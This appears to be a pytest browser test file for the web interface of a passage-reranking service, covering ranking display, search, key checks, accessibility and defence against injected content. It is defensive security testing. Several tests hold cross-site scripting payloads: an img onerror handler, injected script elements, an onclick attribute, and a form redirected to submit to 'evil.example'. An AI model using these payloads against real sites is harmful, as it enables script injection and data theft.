from collections.abc import Iterator
from typing import Any

import pytest

pytest.importorskip("fastapi")

from scripted import ScriptedEngine
from serving import Running, Setup, documents, running
from test_serving_mcp import Shelf

from browser.chromium import AXE, prefer
from browser.test_page import SERIOUS, until
from browser.test_safety import ATTACKS, OPEN
from rearank_cli.records import Passage, Prompt
from rearank_cli.serving.app import Access
from rearank_cli.serving.auth import Keys

pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def server() -> Iterator[Running]:
    with running(ScriptedEngine()) as found:
        yield found


def opened(browser: Any, url: str) -> Any:
    browser.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})
    prefer(browser, "light")
    browser.get("about:blank")
    browser.get_log("browser")
    browser.get(url)
    return browser


def ask(page: Any, query: str, passages: str, key: str = "") -> None:
    """Fill in the form as a person would, but for the typing, and send it."""
    for name, value in (("query", query), ("passages", passages), ("key", key)):
        for box in page.find_elements("id", name):
            page.execute_script("arguments[0].value = arguments[1]", box, value)
    page.find_element("css selector", "form button").click()
    until(page, lambda driver: driver.execute_script("return document.readyState") == "complete")


def test_passages_go_in_and_the_new_order_comes_out(browser: Any, server: Running) -> None:
    page = opened(browser, server.url)
    ask(page, "which is lowest", "\n".join(documents(25)))
    until(page, lambda driver: driver.find_elements("id", "answer"))
    shown = page.execute_script(
        "return [...document.querySelectorAll('.sides > div:last-child .text')]"
        ".map(e => e.textContent)"
    )
    assert shown == [f"passage {number:02}" for number in range(10)]
    assert len(page.find_elements("css selector", ".bump svg .lines path")) >= 10
    thoughts = page.find_elements("css selector", "details.window .think")
    assert [each.get_attribute("textContent") for each in thoughts] == ["by number"] * 2
    assert page.find_element("id", "query").get_attribute("value") == "which is lowest"
    assert page.find_element("id", "passages").get_attribute("value") == "\n".join(documents(25))
    assert page.get_log("browser") == []


def test_a_passage_that_the_reasoning_names_shows_its_line(browser: Any) -> None:
    def script(prompt: Prompt) -> str:
        return "<think>[2] says it</think><answer>[2] > [1] > [3]</answer>"

    with running(ScriptedEngine(script)) as server:
        page = opened(browser, server.url)
        ask(page, "q", "first one\n\nsecond\none\n\nthird")
        until(page, lambda driver: driver.find_elements("css selector", ".think a"))
        link = page.find_element("css selector", ".think a")
        page.execute_script(
            "arguments[0].dispatchEvent(new PointerEvent('pointerover', {bubbles: true}))", link
        )
        assert len(page.find_elements("css selector", "path.hot")) == 1
        best = page.find_element("css selector", ".sides > div:last-child .text")
        assert best.text == "second one"


def test_a_collection_is_searched(browser: Any) -> None:
    found = Shelf([Passage(f"doc-{text[-2:]}", text, "A title") for text in documents(12)])
    with running(ScriptedEngine(), Setup(searcher=found)) as server:
        page = opened(browser, server.url)
        ask(page, "which is lowest", "")
        until(page, lambda driver: driver.find_elements("id", "answer"))
        best = page.find_element("css selector", ".sides > div:last-child li")
        assert best.find_element("css selector", "code").text == "doc-00"
        assert best.find_element("css selector", ".title").text == "A title"


def test_a_wrong_key_is_told_and_a_right_one_lets_in(browser: Any) -> None:
    with running(ScriptedEngine(), Setup(access=Access(Keys(["secret"])))) as server:
        page = opened(browser, server.url)
        ask(page, "q", "passage 1\npassage 0", "wrong")
        until(page, lambda driver: driver.find_elements("class name", "refusal"))
        assert "expected a key" in page.find_element("class name", "refusal").text
        assert page.find_element("id", "key").get_attribute("value") == ""
        ask(page, "q", "passage 1\npassage 0", "secret")
        until(page, lambda driver: driver.find_elements("id", "answer"))


@pytest.fixture(scope="module")
def hostile() -> Iterator[Running]:
    """Everything attacks: query, passages, titles, ids, reasoning, answer, collection."""
    said = "\n".join(f"[{place}] {text}" for place, text in enumerate(ATTACKS, 1))
    passages = [
        Passage(f"{text}{place}", f"{text} {ATTACKS[place - 1]}", text)
        for place, text in enumerate(ATTACKS[:12])
    ]

    def script(prompt: Prompt) -> str:
        return f"<think>{said}</think><answer>[2] > [1] {ATTACKS[0]}</answer>"

    with running(ScriptedEngine(script), Setup(searcher=Shelf(passages))) as found:
        yield found


def attacked(browser: Any, server: Running, source: str) -> Any:
    page = opened(browser, server.url)
    box = f"input[name=source][value={source}]"
    page.execute_script("document.querySelector(arguments[0]).checked = true", box)
    ask(page, " ".join(ATTACKS).replace("\ud800", ""), "\n\n".join(ATTACKS).replace("\ud800", ""))
    until(page, lambda driver: driver.find_elements("id", "answer"))
    return page


@pytest.mark.parametrize("source", ["own", "collection"])
def test_no_script_but_ours_runs(browser: Any, hostile: Running, source: str) -> None:
    page = attacked(browser, hostile, source)
    page.execute_script(OPEN)
    for link in page.find_elements("css selector", "main a")[:60]:
        page.execute_script("arguments[0].dispatchEvent(new MouseEvent('click'))", link)
    assert page.execute_script("return typeof window.hit") == "undefined"
    assert page.get_log("browser") == []  # nothing was even tried and refused
    assert page.execute_script("return performance.getEntriesByType('resource').length") == 0
    forbidden = "iframe, object, embed, img, base, link, math, foreignObject, animate, svg script"
    assert page.execute_script(f"return document.querySelectorAll('{forbidden}').length") == 0
    assert page.execute_script("return document.scripts.length") == 1
    assert page.execute_script("return document.forms.length") == 1
    links = page.execute_script(
        "return [...document.querySelectorAll('[href]')].map(e => e.getAttribute('href'))"
    )
    assert all(link == "/" or link.startswith("#") for link in links)
    names = page.execute_script(
        "const all = [...document.querySelectorAll('main, main *')];"
        "return [...new Set(all.flatMap(element => element.getAttributeNames()))]"
    )
    assert [name for name in names if name.startswith("on") or name == "style"] == []
    content = page.execute_script("return document.querySelector('#answer').textContent")
    assert "<script>hit=1</script>" in content
    assert not any(sign in content for sign in "\u202e\u2066\x00\x1b")


@pytest.mark.parametrize(
    "attempt",
    [
        "const s = document.createElement('script'); s.textContent = 'window.hit = 1';"
        "document.body.append(s)",
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=window.hit=1>')",
        "document.body.setAttribute('onclick', 'window.hit = 1'); document.body.click()",
        "setTimeout('window.hit = 1', 0)",
        "document.forms[0].action = 'https://evil.example/'; document.forms[0].submit()",
    ],
)
def test_the_policy_would_stop_what_came_through(
    browser: Any, hostile: Running, attempt: str
) -> None:
    page = opened(browser, hostile.url)
    page.execute_async_script(
        f"const done = arguments[0]; try {{ {attempt} }} catch (error) {{ }} setTimeout(done, 150)"
    )
    assert page.execute_script("return typeof window.hit") == "undefined"
    assert page.current_url == f"{hostile.url}/"


@pytest.mark.skipif(not AXE.is_file(), reason="needs axe-core; run tests/browser/install.sh")
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_it_has_no_serious_fault_for_people_with_disabilities(
    browser: Any, server: Running, scheme: str
) -> None:
    page = opened(browser, server.url)
    prefer(page, scheme)
    ask(page, "which is lowest", "\n".join(documents(25)))
    until(page, lambda driver: driver.find_elements("id", "answer"))
    page.execute_cdp_cmd("Page.setBypassCSP", {"enabled": True})
    page.execute_script(AXE.read_text())
    found = page.execute_async_script("axe.run().then(arguments[0])")
    page.execute_cdp_cmd("Page.setBypassCSP", {"enabled": False})
    faults = [each["id"] for each in found["violations"] if each["impact"] in SERIOUS]
    assert faults == []
